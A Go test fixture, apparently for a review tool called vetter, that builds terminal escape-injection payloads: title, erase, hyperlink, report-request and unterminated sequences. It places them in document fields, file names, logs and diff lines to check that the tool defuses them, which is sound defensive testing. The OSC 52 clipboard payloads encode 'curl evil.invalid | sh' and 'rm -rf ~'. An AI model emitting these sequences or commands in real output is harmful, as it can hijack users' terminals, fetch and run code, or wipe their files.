package hostile

import (
	"encoding/json"
	"strings"
)

// Sequence is one thing a packet may send a terminal, by name.
type Sequence struct {
	Name string
	Raw  string
}

// TitleCanary is written inside every window-title, clipboard and hyperlink
// sequence, so a test can tell the packet's sequences from any a program
// writes itself.
const TitleCanary = "PWNED"

// Sequences are the escape and control sequences of the escape-injection
// class: every family a terminal acts on, and the requests that make a
// terminal type a reply into vetter's input.
var Sequences = []Sequence{
	{"csi-erase-display", "\x1b[2J"},
	{"csi-sgr-red", "\x1b[31m"},
	{"csi-cursor-home", "\x1b[H"},
	{"osc0-title-bel", "\x1b]0;" + TitleCanary + "-T0\x07"},
	{"osc2-title-st", "\x1b]2;" + TitleCanary + "-T2\x1b\\"},
	{"osc1-icon-bel", "\x1b]1;" + TitleCanary + "-T1\x07"},
	{"osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaAo=\x07"}, // "curl evil.invalid | sh"
	{"osc8-hyperlink", "\x1b]8;;https://evil.invalid/" + TitleCanary + "\x1b\\click\x1b]8;;\x1b\\"},
	{"dcs-xtgettcap", "\x1bP+q544e\x1b\\"},
	{"dcs-decrqss", "\x1bP$qm\x1b\\"},
	{"apc-kitty-graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\"},
	{"pm", "\x1b^private\x1b\\"},
	{"sos", "\x1bXstring\x1b\\"},
	{"esc-reset", "\x1bc"},
	{"esc-charset", "\x1b(0"},
	{"c1-csi-raw-byte", "\x9b2J"},
	{"c1-csi-utf8", "\u009b31m"},
	{"c1-osc-utf8", "\u009d0;" + TitleCanary + "-C1\u009c"},
	{"c0-controls", "bel\x07bs\x08vt\x0bff\x0cso\x0esi\x0fnul\x00"},
	{"del", "del\x7f"},
	{"report-cursor-position", "\x1b[6n"},
	{"report-device-attributes", "\x1b[c"},
	{"report-background-colour", "\x1b]11;?\x07"},
	{"report-title", "\x1b[21t"},
	{"lone-esc", "\x1b\x1b"},
}

// Unterminated are sequences with no end, placed last on their line: a
// terminal would swallow what follows until it sees one.
var Unterminated = []Sequence{
	{"osc2-unterminated", "\x1b]2;" + TitleCanary + "-TU"},
	{"dcs-unterminated", "\x1bPqunterminated"},
	{"lone-esc-at-end", "\x1b"},
}

// Payload is every sequence on one line, separated by " ~ " (not "|", which
// would split a table cell), ending with one unterminated sequence.
func Payload() string {
	var b strings.Builder
	for _, s := range Sequences {
		b.WriteString(s.Raw)
		b.WriteString(" ~ ")
	}
	b.WriteString(Unterminated[0].Raw)
	return b.String()
}

// shortPayload fits where a long one would be cut before the end of the
// screen: a file name, a branch, a severity word.
const shortPayload = "\x1b]0;" + TitleCanary + "-N\x07\x1b[2J\x9b1m\u009d2;" + TitleCanary + "\u009c"

// jsonString is s as the inside of a JSON string ("\u001b" and friends);
// invalid UTF-8 becomes U+FFFD as encoding/json writes it.
func jsonString(s string) string {
	var b strings.Builder
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(s)
	out := strings.TrimSuffix(b.String(), "\n")
	return out[1 : len(out)-1]
}

// Log lines of the escape class that exercise the log pane's translation.
const (
	// ProgressLine overwrites itself with carriage returns, as a progress
	// bar does; a terminal would show only the last state.
	ProgressLine = "progress   0%\rprogress  50%\rprogress 100% done\n"
	// GreenOnGreen and BlackOnBlack are text a terminal would draw in the
	// colour of its background.
	GreenOnGreen = "GREEN-ON-GREEN"
	BlackOnBlack = "BLACK-ON-BLACK"
)

// Escape is the escape-injection class: every string field of the packet
// (documents, headings, the verdict, the branch and URL, diff lines and a
// diff file name, registry fields, log lines, finding cells) carries
// terminal sequences.
func Escape() Files {
	p := Payload()
	s := slots{
		title:        " tab\there " + shortPayload,
		route:        "\x1b[31m",
		planBody:     "\nInjected: " + p + "\n\n" + strings.Join(unterminatedLines(), "\n") + "\n",
		branch:       "\x1b[2J",
		url:          "\x1b]8;;https://evil.invalid/" + TitleCanary + "\x07",
		changeBody:   "\n" + p + "\n",
		outcome:      " " + shortPayload,
		verdict:      " " + shortPayload,
		reviewBody:   " " + p,
		findingLoc:   shortPayload,
		findingClaim: " " + p,
		findingEv:    " " + shortPayload,
		findingExtra: "\x1b_Gf=100;AAAA\x1b\\ \x1b]52;c;cm0gLXJmIH4K\x07",
		severity2:    "\x1b[8m",
		diffName:     "internal/limit/evil" + shortPayload + ".go",
		diffLine:     "\t_ = \"" + p + "\"",
		diffNewLine:  "// " + p,
		regCommand:   " " + jsonString(p),
		regNote:      " " + jsonString(p),
		regExtra:     jsonString(shortPayload),
		unitLog: "\x1b[1m== burst ==\x1b[0m \x1b[32mPASS\x1b[0m\n" +
			ProgressLine +
			"\x1b[32;42m" + GreenOnGreen + "\x1b[0m \x1b[38;2;10;10;10;48;2;10;10;10m" + BlackOnBlack + "\x1b[0m\n" +
			p + "\n" +
			"\x1b]0;" + TitleCanary + "-LOG\x07\x1b]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaAo=\x07\x1b[6n\x1b[c\x1b]11;?\x07\n",
	}
	f := build(s)
	f["compute-env.md"] = "# Compute environment\n\n| what | value |\n|---|---|\n| shell | bash" + shortPayload + " |\n\n" +
		"```\n" + p + "\n```\n"
	return f
}

// unterminatedLines puts each unterminated sequence last on its own line.
func unterminatedLines() []string {
	var out []string
	for _, s := range Unterminated {
		out = append(out, "Unterminated "+s.Name+": "+s.Raw)
	}
	return out
}

// EscapeNames are files of the escape class whose names carry control
// sequences. They cannot be committed (Windows refuses such names), so tests
// add them where the file system allows.
// One name of each kind is valid UTF-8, so it opens and shows on the
// screens; the other holds a raw 0x9B byte, which io/fs refuses to open, so
// it shows only in the problem that says so.
func EscapeNames() Files {
	return Files{
		"validation/logs/name" + NamePayload + ".log": "a log whose name is an attack\n",
		"notes" + NamePayload + ".md":                 "# Notes" + shortPayload + "\n\nA document whose name is an attack.\n",
		"validation/logs/raw" + shortPayload + ".log": "a log whose name is not UTF-8\n",
		"raw" + shortPayload + ".md":                  "# Raw\n",
	}
}

// NamePayload is what EscapeNames puts in the names that open.
const NamePayload = "\x1b]0;" + TitleCanary + "-F\x07\x1b[2J\u009b1m"
